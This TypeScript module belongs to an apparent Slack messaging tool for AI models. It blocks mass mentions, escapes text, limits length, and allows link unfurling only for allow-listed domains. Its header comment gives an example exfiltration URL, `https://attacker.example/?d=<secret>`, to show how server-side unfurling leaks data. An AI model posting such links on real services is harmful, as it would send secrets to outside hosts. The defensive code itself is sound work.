/**
 * @module
 * Everything a posted message goes through before it reaches chat.postMessage or
 * chat.scheduleMessage: mass mentions refused unless the operator allows them, the text converted
 * and escaped ({@link toSlackText}), its length checked, and link unfurling decided. Unfurling is
 * off unless every link is on a domain the operator allow-listed: Slack's unfurler fetches URLs
 * server-side, so a posted `https://attacker.example/?d=<secret>` would leak without a click.
 */
import { ToolError } from '@plugboard/protocol';
import { z } from 'zod';
import type { SlackConfig } from './config.js';
import { FORMATS, massMentions, mayUnfurl, toSlackText, type Format } from './mrkdwn.js';

/** Most characters a model may post in one message (Slack truncates past 40,000). */
export const MAX_MESSAGE_CHARS = 12_000;
const SLACK_MAX_CHARS = 40_000;

export const textField = z
  .string()
  .min(1)
  .max(MAX_MESSAGE_CHARS)
  .describe(
    `Message text (at most ${MAX_MESSAGE_CHARS} characters), Markdown by default. Mentions are shown literally unless the operator allows them.`,
  );

export const formatField = z
  .enum(FORMATS)
  .optional()
  .describe(
    'How text is read: "markdown" (default; converted to Slack formatting), "mrkdwn" (Slack formatting as written), or "plain" (no formatting)',
  );

/** The message arguments every posting method gets. */
export interface OutgoingMessage {
  readonly text: string;
  readonly mrkdwn: boolean;
  readonly unfurl_links: boolean;
  readonly unfurl_media: boolean;
  readonly link_names: false;
}

export function composeMessage(
  raw: string,
  format: Format | undefined,
  config: Pick<SlackConfig, 'allowMassMentions' | 'allowUserMentions' | 'unfurlDomains'>,
): OutgoingMessage {
  if (raw.trim() === '') throw new ToolError('text is empty; write the message to send.');
  if (!config.allowMassMentions) {
    const mass = massMentions(raw);
    if (mass.length > 0)
      throw new ToolError(
        `The message contains ${mass.slice(0, 5).join(', ')}, which notifies everyone in the conversation; this server does not send mass mentions (the operator can allow them with --allow-mass-mentions). Rephrase without them.`,
      );
  }
  const chosen = format ?? 'markdown';
  const text = toSlackText(raw, chosen, config);
  if (text.length > SLACK_MAX_CHARS)
    throw new ToolError(
      `The message is ${text.length} characters once escaped for Slack, over its ${SLACK_MAX_CHARS} limit; split it into several.`,
    );
  const unfurl = mayUnfurl(text, config.unfurlDomains);
  return {
    text,
    mrkdwn: chosen !== 'plain',
    unfurl_links: unfurl,
    unfurl_media: unfurl,
    link_names: false,
  };
}
